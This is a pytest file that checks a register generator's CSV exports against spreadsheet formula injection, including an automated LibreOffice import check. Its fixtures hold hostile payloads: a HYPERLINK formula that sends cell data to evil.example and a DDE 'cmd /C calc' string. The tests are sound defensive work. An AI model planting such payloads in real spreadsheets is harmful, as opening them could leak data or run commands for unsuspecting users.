"""Every CSV the register publishes is safe to open in a spreadsheet: a hostile register's texts reach every CSV as
text, never as a formula; UTF-8 with a byte-order mark; CR LF after every row; `export --raw` keeps the exact text.

The rule (OWASP, "CSV injection"): a cell that starts with =, +, -, @, a tab or a carriage return is a formula
in some spreadsheet program, so it is written with an apostrophe before it."""
from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from generator.build.register import BuildOptions, build_register

from conftest import FIXTURES, explain, run_cli, skip_without

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
DDE = "-2+3+cmd|' /C calc'!A0"
HOSTILE = f"""\
purpose: |
  {FORMULA}

  - Markdown list item one
  + a plus item
  @SUM(1+1)
suppliers:
  - name: "=Supplier0"
    role: "+builds it"
development: supplier
owner:
  department: testing
  team: "-Team minus"
tags: ["@at", "+plus", "-minus", "=eq"]
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    registry = tmp_path_factory.mktemp("hostile") / "registry"
    shutil.copytree(FIXTURES / "valid", registry)
    path = registry / "high-risk-system.yaml"
    text = path.read_text(encoding="utf-8")
    text = text.replace("summary: A high-risk system with its fundamental rights and data protection assessments.",
                        f"summary: \"{DDE} Ääkköset 漢字\"")
    text = text.replace("owner:\n  department: testing\n", "")
    path.write_text(text + HOSTILE, encoding="utf-8")
    return registry


@pytest.fixture(scope="module")
def files(hostile) -> dict[str, bytes]:
    with build_register(hostile, BuildOptions(workers=0, site_url="https://register.example/")) as build:
        return build.open_data()


def _csvs(files: dict[str, bytes]) -> dict[str, bytes]:
    found = {path: content for path, content in files.items() if path.endswith(".csv")}
    assert "data/registry.csv" in found and len(found) == 1 + 6 * 2, sorted(found)  # each export: its CSV and gaps.csv
    return found


def _cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_every_csv_starts_with_a_byte_order_mark_and_ends_rows_with_cr_lf(files):
    for path, content in _csvs(files).items():
        assert content.startswith(b"\xef\xbb\xbf"), path
        text = content.decode("utf-8-sig")
        assert text.endswith("\r\n"), path
        rows = list(csv.reader(io.StringIO(text, newline="")))
        outside_cells = re.sub(r'"(?:[^"]|"")*"', "", text)  # line breaks inside a quoted cell are the text's own
        assert outside_cells.count("\n") == outside_cells.count("\r\n") == len(rows), path


def test_no_cell_of_any_csv_starts_like_a_formula(files):
    hostile_seen = 0
    for path, content in _csvs(files).items():
        for cell in _cells(content):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(r"[+-]?\d+(\.\d+)?", cell), \
                f"{path}: {cell[:60]!r}"
            hostile_seen += cell.startswith(("'=", "'+", "'-", "'@"))
    assert hostile_seen >= 10, "the hostile texts reached the CSVs (with their apostrophe)"


def test_registry_csv_keeps_the_text_after_the_apostrophe(files):
    rows = list(csv.DictReader(io.StringIO(files["data/registry.csv"].decode("utf-8-sig"), newline="")))
    row = next(r for r in rows if r["id"] == "high-risk-system")
    assert row["summary"] == f"'{DDE} Ääkköset 漢字"
    assert row["team"] == "'-Team minus" and row["suppliers"] == "'=Supplier0"
    assert row["tags"] == "'@at;+plus;-minus;=eq"


def test_the_json_keeps_the_exact_text(files):
    import json

    record = json.loads(files["data/systems/high-risk-system.json"])["record"]
    assert record["summary"].startswith(DDE) and record["suppliers"][0]["name"] == "=Supplier0"


def test_export_raw_writes_the_exact_text_without_byte_order_mark(hostile, tmp_path):
    result = run_cli("export", "--to", "uk-atrs-3.0", "--raw", "--registry", hostile, "--out", tmp_path)
    assert result.returncode == 0, explain(result)
    content = (tmp_path / "uk-atrs-3.0" / "uk-atrs-3.0.csv").read_bytes()
    assert not content.startswith(b"\xef\xbb\xbf") and content.endswith(b"\r\n")
    cells = _cells(content)
    assert DDE + " Ääkköset 漢字" in cells and not any(cell.startswith("'") for cell in cells)
    guarded = run_cli("export", "--to", "uk-atrs-3.0", "--registry", hostile, "--out", tmp_path / "sheet")
    assert guarded.returncode == 0, explain(guarded)
    assert "'" + DDE + " Ääkköset 漢字" in _cells((tmp_path / "sheet" / "uk-atrs-3.0" / "uk-atrs-3.0.csv").read_bytes())


def test_libreoffice_opens_every_csv_without_a_single_formula(files, tmp_path):
    """Open each CSV as LibreOffice does (headless import, formulas evaluated) and count formula cells: none."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        skip_without("soffice", "LibreOffice opens the CSVs as a reader would; apt install libreoffice-calc-nogui")
    sources = tmp_path / "csv"
    sources.mkdir()
    for index, (path, content) in enumerate(sorted(_csvs(files).items())):
        (sources / f"{index:02d}-{Path(path).name}").write_bytes(content)
    result = subprocess.run([office, f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless",
                             "--convert-to", "ods", "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1",
                             "--outdir", str(tmp_path / "out"), *sorted(str(p) for p in sources.iterdir())],
                            capture_output=True, text=True, timeout=600)
    converted = sorted((tmp_path / "out").glob("*.ods"))
    assert len(converted) == len(list(sources.iterdir())), result.stdout + result.stderr
    for sheet in converted:
        content = zipfile.ZipFile(sheet).read("content.xml").decode("utf-8")
        assert "table:formula=" not in content, sheet.name
    assert any("Supplier0" in zipfile.ZipFile(s).read("content.xml").decode("utf-8") for s in converted)
